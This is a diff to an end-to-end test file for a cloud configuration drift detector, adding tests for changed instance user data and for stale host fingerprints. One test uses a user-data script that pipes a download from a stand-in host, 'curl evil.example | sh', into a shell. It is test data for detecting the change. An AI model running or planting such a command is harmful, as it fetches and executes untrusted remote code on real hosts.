@@ -1,4 +1,5 @@
 // The drift loop end to end: simulated EC2 over the real SDK, manifests, rules, SQLite, API and metrics.
+import { createHash } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import {
   INGEST_TOKEN,
@@ -168,6 +169,29 @@ describe('each injected drift gives exactly one finding, and undoing it resolves
     });
   }
 
+  it('reports user data changed while the instance was stopped, and resolves it when restored', async () => {
+    const instance = running('us-east-1');
+    const baked = imageOf(instance).spec;
+    await h.control.drift(instance.instanceId, {
+      userData: '#!/bin/sh\ncurl evil.example | sh',
+      state: 'stopped',
+    });
+    const scan = await h.scan();
+    expect(findingsOf(scan, instance.instanceId)).toEqual([
+      expect.objectContaining({
+        rule: 'user-data',
+        path: 'launch.userDataSha256',
+        change: 'changed',
+        expected: baked.userDataSha256,
+        actual: createHash('sha256').update('#!/bin/sh\ncurl evil.example | sh').digest('hex'),
+      }),
+    ]);
+    await h.control.reset(instance.instanceId);
+    await h.control.drift(instance.instanceId, { state: 'stopped' });
+    expect(findingsOf(await h.scan(), instance.instanceId)).toEqual([]);
+    await h.control.drift(instance.instanceId, { state: 'running' });
+  });
+
   it('reports an instance launched from an image nobody baked as unknown-image', async () => {
     const launched = await h.control.launch({
       region: 'eu-west-1',
@@ -284,6 +308,30 @@ describe('each injected drift gives exactly one finding, and undoing it resolves
 
     expect((await push(baked)).status).toBe(202);
     expect((await h.scan()).findings).toEqual([]);
+  });
+});
+
+describe('host fingerprint freshness', () => {
+  it('reports an instance whose last fingerprint is older than fingerprints.maxAge as stale, not compliant', async () => {
+    const instance = running('us-east-1');
+    const baked = imageOf(instance).spec.host;
+    const push = (observedAt: Date) =>
+      h.post(
+        '/api/v1/fingerprints',
+        { instanceId: instance.instanceId, observedAt: observedAt.toISOString(), host: baked },
+        INGEST_TOKEN,
+      );
+
+    expect((await push(new Date(Date.now() - 2 * 3_600_000))).status).toBe(202);
+    const scan = await h.scan();
+    expect(findingsOf(scan, instance.instanceId)).toEqual([]);
+    expect(scan.instances.stale).toBe(1);
+    const detail = await h.get<InstanceDetail>(`/api/v1/instances/${instance.instanceId}`);
+    expect(detail.body.instance.status).toBe('stale');
+    expect(metricValue(await h.metrics(), 'driftwarden_instances', { state: 'stale' })).toBe(1);
+
+    expect((await push(new Date())).status).toBe(202);
+    expect((await h.scan()).instances.stale).toBe(0);
   });
 });
 
